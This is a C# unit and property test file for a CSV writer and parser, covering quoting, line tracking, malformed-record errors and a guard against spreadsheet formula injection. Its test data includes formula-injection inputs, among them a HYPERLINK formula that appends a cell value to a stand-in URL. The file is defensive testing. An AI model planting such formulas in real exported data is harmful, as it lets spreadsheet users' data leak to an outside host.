using FsCheck;
using FsCheck.Xunit;
using IntegrationFramework.Serialization;

namespace IntegrationFramework.Tests.Serialization;

public sealed class CsvTests
{
    private static string Write(params string?[] fields)
    {
        using var writer = new StringWriter();
        Csv.WriteRecord(writer, fields);
        return writer.ToString();
    }

    [Fact]
    public void Fields_are_quoted_only_when_they_hold_commas_quotes_line_breaks_or_edge_spaces()
    {
        Assert.Equal("plain,,\"a, b\",\"say \"\"hi\"\"\",\"two\r\nlines\",\" padded \",-2.5\r\n", Write("plain", null, "a, b", "say \"hi\"", "two\r\nlines", " padded ", "-2.5"));
        Assert.Equal("\"\n\"\r\n", Write("\n"));
    }

    [Fact]
    public void Records_are_parsed_back_exactly_with_their_starting_lines()
    {
        var text = Write("a", "b, c") + Write("say \"hi\"", "two\r\nlines") + Write(" x ", null);

        var (records, error, _) = Csv.Parse(text);

        Assert.Null(error);
        Assert.Equal([1, 2, 4], records.Select(r => r.Line));
        Assert.Equal(["a", "b, c"], records[0].Fields);
        Assert.Equal(["say \"hi\"", "two\r\nlines"], records[1].Fields);
        Assert.Equal([" x ", ""], records[2].Fields);
    }

    [Fact]
    public void Line_feeds_a_byte_order_mark_blank_lines_and_a_missing_last_line_end_are_accepted()
    {
        var (records, error, _) = Csv.Parse("\uFEFFa,b\n\n1,2\n3,4");

        Assert.Null(error);
        Assert.Equal([["a", "b"], ["1", "2"], ["3", "4"]], records.Select(r => r.Fields));
        Assert.Equal([1, 3, 4], records.Select(r => r.Line));
    }

    [Theory]
    [InlineData("a,\"open\nstill open", "A quoted field opened on line 1 is never closed.", 1)]
    [InlineData("a,b\n\"x\"y,z", "Line 2 has 'y' after a closing quote; a quoted field ends with a quote followed by a separator or the end of the line.", 2)]
    [InlineData("a,b\nsay \"hi\",z", "Line 2 has a quote inside a field that is not quoted; quote the whole field and double the quote.", 2)]
    public void Malformed_records_stop_the_parse_with_the_line_and_the_reason(string text, string message, int line)
    {
        var (_, error, errorLine) = Csv.Parse(text);

        Assert.Equal(message, error);
        Assert.Equal(line, errorLine);
    }

    [Theory]
    [InlineData("=SUM(A1)", "'=SUM(A1)")]
    [InlineData("=HYPERLINK(\"http://x\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"open\"\")\"")]
    [InlineData("+1 call me", "'+1 call me")]
    [InlineData("-not a number", "'-not a number")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tindented", "'\tindented")]
    [InlineData("\t3", "'\t3")]
    [InlineData("\rreturn", "\"'\rreturn\"")]
    [InlineData("'=already quoted", "''=already quoted")]
    [InlineData("-2.5", "-2.5")]
    [InlineData("+3", "+3")]
    [InlineData("it's fine", "it's fine")]
    [InlineData("'plain", "'plain")]
    public void A_text_cell_a_spreadsheet_would_run_as_a_formula_is_written_after_a_single_quote(string field, string written)
        => Assert.Equal(written + "\r\n", Write(field));

    [Property(MaxTest = 500)]
    public void Every_field_reads_back_as_written_once_the_guard_is_taken_off(NonNull<string> text, PositiveInt trigger)
    {
        // Fields that start with what a spreadsheet runs, with quotes before them, and anything else.
        var field = $"{new string('\'', trigger.Get % 3)}{"=+-@\t\rx'"[trigger.Get % 8]}{text.Get}";
        var (records, error, _) = Csv.Parse(Write(field));

        Assert.Null(error);
        Assert.Equal(field, Csv.Unguard(Assert.Single(Assert.Single(records).Fields)));
        Assert.True(!Csv.Guard(field).StartsWith('=') && !Csv.Guard(field).StartsWith('@') && !Csv.Guard(field).StartsWith('\t'));
    }
}
